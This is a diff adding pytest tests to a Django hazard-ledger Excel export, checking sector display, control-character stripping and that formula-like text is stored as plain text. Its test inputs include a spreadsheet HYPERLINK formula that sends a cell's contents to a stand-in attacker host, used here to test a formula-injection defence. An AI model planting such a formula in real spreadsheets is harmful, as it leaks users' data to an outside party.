@@ -5,6 +5,7 @@ from __future__ import annotations
 import html
 import io
 import re
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import date, timedelta
@@ -392,6 +393,61 @@ def test_export_stays_in_scope(client: Any, world: World, ledger: Ledger) -> Non
 def test_export_needs_the_export_right(client: Any, world: World, ledger: Ledger, role: str, status: int) -> None:
     client.force_login(world.users()[role])
     assert client.get(reverse("hazard_export")).status_code == status
+
+
+def test_a_hazard_without_a_sector_shows_its_enterprises_sectors(client: Any, world: World, ledger: Ledger) -> None:
+    world.ent_a.sectors.add(world.sector_build)
+    assert ledger.a_general.sector is None and ledger.a_self.sector == world.sector_build
+    client.force_login(world.official_a)
+    rows = _data_rows(_workbook(client.get(reverse("hazard_export"))).active)
+    sectors = {row[HEADER.index("隐患编号")]: row[HEADER.index("行业领域")] for row in rows}
+    names = "、".join(s.name for s in sorted([world.sector_chem, world.sector_build], key=lambda s: s.sort_order))
+    assert sectors[ledger.a_general.number] == names  # was empty
+    assert sectors[ledger.a_self.number] == world.sector_build.name  # its own sector wins
+    assert sectors[ledger.a2_closed.number] == world.sector_build.name
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&B4,"点我查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "#N/A",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_text_that_looks_like_a_formula_is_exported_as_text(
+    client: Any, world: World, ledger: Ledger, tmp_path: Any, text: str
+) -> None:
+    Hazard.objects.filter(pk=ledger.a_general.pk).update(description=text, location=text)
+    world.ent_a.name = text
+    world.ent_a.save()
+    client.force_login(world.official_a)
+    response = client.get(reverse("hazard_export"), {"q": ledger.a_general.number})
+    content = b"".join(response.streaming_content)
+
+    sheet = load_workbook(io.BytesIO(content)).active
+    [row] = [r for r in sheet.iter_rows(min_row=4) if r[0].value is not None]
+    for name in ("企业名称", "隐患描述", "隐患部位"):
+        cell = row[HEADER.index(name)]
+        assert (cell.value, cell.data_type) == (text, "s")
+        assert cell.quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml
+
+
+def test_control_characters_excel_cannot_hold_are_dropped_not_a_failed_export(
+    client: Any, world: World, ledger: Ledger
+) -> None:
+    Hazard.objects.filter(pk=ledger.a_general.pk).update(description="报警\x07器失灵", location="=\x01A1")
+    client.force_login(world.official_a)
+    sheet = _workbook(client.get(reverse("hazard_export"), {"q": ledger.a_general.number})).active
+    [row] = _data_rows(sheet)
+    assert (row[HEADER.index("隐患描述")], row[HEADER.index("隐患部位")]) == ("报警器失灵", "=A1")
 
 
 def test_writer_counts_rows_and_names_the_filter(tmp_path: Any) -> None:
